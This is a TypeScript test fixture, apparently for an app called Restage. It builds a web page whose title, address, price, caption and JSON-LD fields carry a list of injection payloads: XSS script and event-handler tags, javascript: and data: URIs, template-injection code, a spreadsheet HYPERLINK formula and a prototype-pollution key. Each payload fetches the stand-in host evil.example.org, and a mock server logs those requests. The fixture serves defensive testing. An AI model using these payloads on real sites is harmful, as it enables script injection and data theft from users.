/** Texts that would do something where text is taken for HTML, an address, a style, a formula or a template. */
import type { World } from './world';

const EVIL_HOST = 'evil.example.org';
const evil = `https://${EVIL_HOST}/x`;
/** Stands in every text, so that it can be found again. */
export const MARK = 'zqx';
const run = `globalThis.pwned=1;fetch('${evil}')`;

export const scriptTexts: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=${evil} onerror="${run}">`,
  `"><svg onload="${run}"><animate onbegin="${run}">`,
  `</title></textarea></style><script src="${evil}"></script>`,
  `'"\`><iframe srcdoc="<script>${run}</script>">`,
  `<link rel=stylesheet href=${evil}><style>@import "${evil}"</style>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor("${run}")()}}\${${run}}`,
  `url(${evil})`,
  `=HYPERLINK("${evil}")`,
  `<details open ontoggle="${run}"><video><source onerror="${run}"></video>`,
  `\u202e<b onmouseover="${run}">\u0000</b>`,
  `__proto__`,
].map((text) => `${text} ${MARK}`);

/** One text that holds them all. */
export const everyScript = scriptTexts.join(' ');

const escapeHtml = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

/** For an id, which may have 100 characters. */
export const shortScript = `<img src=${evil}> ${MARK}`;

/** The fields of a page that Restage shows; each of its texts begins with the name of its own. */
export const pageFields = ['title', 'address', 'price', 'caption'] as const;

export const startOf = (field: (typeof pageFields)[number], first: number) =>
  `${MARK} ${field}${first}`;

/** A page that says these texts wherever Restage reads: title, address, price, caption. */
export function hostileWords(first: number, count: number, photo: string): string {
  const texts = scriptTexts.slice(first, first + count).join(' ');
  const [title, address, price, caption] = pageFields
    .map((field) => `${startOf(field, first)} ${texts}`)
    .map(escapeHtml);
  const facts = JSON.stringify({
    '@context': 'https://schema.org',
    '@type': 'Accommodation',
    name: `${startOf('title', first)} ${texts}`,
    address: { '@type': 'PostalAddress', streetAddress: `${startOf('address', first)} ${texts}` },
    offers: {
      '@type': 'Offer',
      price: `${startOf('price', first)} ${texts}`,
      priceCurrency: texts,
    },
  }).replaceAll('<', '\\u003c');
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<meta property="og:title" content="${title}"><script type="application/ld+json">${facts}</script></head>
<body><h1>${title}</h1><p>${address} ${price}</p>
<figure><img src="${photo}" alt="${caption}" title="${caption}" width="900" height="600">
<figcaption>${caption}</figcaption></figure></body></html>`;
}

/** @returns addresses that something asked for because a text did something */
export function mountEvil(world: World): readonly string[] {
  const asked: string[] = [];
  world.mount(EVIL_HOST, ({ url = '' }, response) => {
    asked.push(url);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('globalThis.pwned = 2');
  });
  return asked;
}
